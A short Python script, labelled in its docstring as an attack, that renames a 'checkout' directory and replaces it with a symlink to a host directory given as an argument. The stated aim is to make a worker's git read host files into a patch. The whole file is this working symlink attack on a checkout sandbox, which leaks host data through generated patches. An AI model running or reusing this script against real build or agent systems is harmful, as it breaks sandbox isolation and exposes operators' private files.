"""Attack: replace my checkout with a link to a directory of the host (argv[1]),
so the worker's git reads it into the patch."""

import os
import sys

os.chdir("..")
os.rename("checkout", "checkout.old")
os.symlink(sys.argv[1], "checkout")
print("checkout swapped")
